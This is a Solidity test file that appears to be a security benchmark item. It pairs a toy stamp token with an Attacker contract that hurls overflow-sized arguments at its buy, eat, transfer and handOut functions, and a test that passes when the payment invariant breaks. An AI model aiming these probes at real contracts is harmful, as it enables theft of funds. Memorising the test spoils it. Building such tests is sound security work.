// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./PoppyseedStamps.sol";

// assay-canary-31b56001-bc27-41f3-9fa1-ee906c1dbc77

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
}

contract Attacker {
    PoppyseedStamps internal stamps;

    constructor(PoppyseedStamps stamps_) public {
        stamps = stamps_;
    }

    receive() external payable {}

    function _try(uint256 value, bytes memory data) private returns (bool ok) {
        (ok, ) = address(stamps).call{value: value}(data);
    }

    function _queue(uint256 count) private view returns (address[] memory queue) {
        queue = new address[](count);
        for (uint256 i = 0; i < count; i++) queue[i] = i == 0 ? address(this) : address(0xC0C0 + i);
    }

    function _buy(uint256 value, uint256 count) private {
        _try(value, abi.encodeWithSelector(stamps.buy.selector, count));
    }

    function _eat(address baker, uint256 loaves) private {
        _try(0, abi.encodeWithSelector(stamps.eat.selector, baker, loaves));
    }

    function _handOut(uint256 count, uint256 each) private {
        _try(0, abi.encodeWithSelector(stamps.handOut.selector, _queue(count), each));
    }

    function run(address baker) external {
        uint256 price = stamps.PRICE();
        _buy(0, 2**255);
        _buy(price, uint256(-1) / price + 2);
        _buy(price, 1);
        _try(0, abi.encodeWithSelector(stamps.setBaker.selector, address(this), true));

        _eat(baker, uint256(-1) / 10 + 1);
        _eat(baker, 2**255);
        _eat(baker, 1);
        _eat(address(this), 1);
        _try(0, abi.encodeWithSelector(stamps.settle.selector));

        _try(0, abi.encodeWithSelector(stamps.transfer.selector, address(this), 5000));
        _try(0, abi.encodeWithSelector(stamps.transfer.selector, baker, uint256(-1)));
        _try(0, abi.encodeWithSelector(stamps.transferFrom.selector, baker, address(this), 5000));
        _try(0, abi.encodeWithSelector(stamps.transferFrom.selector, baker, address(this), 0));

        _handOut(0, uint256(-1));
        _handOut(41, 5000);
        _handOut(1, 5000);
        _handOut(3, uint256(-1) / 3);
        _handOut(40, 0);
        _handOut(3, uint256(-1) / 3 + 1);
        _handOut(2, 2**255);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant HOB = address(0x40B);
    address internal constant PIA = address(0x91A);
    PoppyseedStamps internal stamps;
    Attacker internal crow;

    function setUp() public {
        stamps = new PoppyseedStamps();
        stamps.setBaker(HOB, true);
        vm.deal(HOB, 1 ether);
        vm.prank(HOB);
        stamps.buy{value: 1 ether}(5000);
        crow = new Attacker(stamps);
        vm.deal(address(crow), 1 ether);
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(stamps).call(data);
    }

    function test_Regular() public {
        require(stamps.totalSupply() == 5000 && stamps.balanceOf(HOB) == 5000, "bought");
        address[] memory queue = new address[](3);
        (queue[0], queue[1], queue[2]) = (PIA, address(0xA1), PIA);
        vm.prank(HOB);
        stamps.handOut(queue, 12);
        require(stamps.balanceOf(PIA) == 24 && stamps.balanceOf(HOB) == 4964, "handed out");
        vm.prank(PIA);
        require(!_try(abi.encodeWithSelector(stamps.eat.selector, HOB, 3)), "two loaves only");
        vm.prank(PIA);
        require(!_try(abi.encodeWithSelector(stamps.eat.selector, address(0xA1), 2)), "no baker");
        vm.prank(PIA);
        stamps.eat(HOB, 2);
        require(stamps.balanceOf(PIA) == 4 && stamps.loavesGiven() == 2, "eaten");
        vm.prank(HOB);
        stamps.settle();
        require(HOB.balance == 0.004 ether && stamps.dueTo(HOB) == 0, "settled");

        vm.prank(PIA);
        stamps.approve(address(this), 3);
        stamps.transferFrom(PIA, address(this), 2);
        require(stamps.allowance(PIA, address(this)) == 1 && stamps.balanceOf(address(this)) == 2, "allowance");
        require(!_try(abi.encodeWithSelector(stamps.transferFrom.selector, PIA, address(this), 2)), "above it");
        stamps.transfer(address(this), 2);
        require(stamps.balanceOf(address(this)) == 2, "to oneself");
        stamps.setBaker(HOB, false);
        vm.deal(HOB, 1 ether);
        vm.prank(HOB);
        (bool ok, ) = address(stamps).call{value: 0.0002 ether}(abi.encodeWithSelector(stamps.buy.selector, 1));
        require(!ok, "left the guild");
        require(address(stamps).balance == stamps.totalSupply() * stamps.PRICE(), "covered");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The guild's business, the price, queues and nobody.
    function test_RefusesHandling() public {
        refuses(PIA, "Poppy: guild only");
        stamps.setBaker(PIA, true);
        vm.deal(HOB, 1 ether);
        refuses(HOB, "Poppy: price");
        stamps.buy{value: 0.0001 ether}(1);
        address[] memory queue = new address[](0);
        refuses(HOB, "Poppy: queue");
        stamps.handOut(queue, 1);
        queue = new address[](41);
        for (uint256 i = 0; i < 41; i++) queue[i] = PIA;
        refuses(HOB, "Poppy: queue");
        stamps.handOut(queue, 1);
        queue = new address[](1);
        refuses(HOB, "Poppy: nobody");
        stamps.handOut(queue, 1);
        refuses(HOB, "Poppy: nobody");
        stamps.transfer(address(0), 1);
        refuses(address(stamps), "Poppy: not paid");
        stamps.settle();
    }

    function exploit() public {
        crow.run(HOB);
    }

    function test_Exploit() public {
        require(covered(), "before");
        exploit();
        require(!covered(), "all is covered");
    }

    /// Nobody holds more stamps than there are, and each of them was paid for.
    function covered() public view returns (bool) {
        uint256 supply = stamps.totalSupply();
        return
            stamps.balanceOf(HOB) <= supply &&
            stamps.balanceOf(PIA) <= supply &&
            stamps.balanceOf(address(crow)) <= supply &&
            address(stamps).balance >= supply * stamps.PRICE();
    }

    function target() public view returns (address) {
        return address(stamps);
    }

    function attacker() public view returns (address) {
        return address(crow);
    }
}
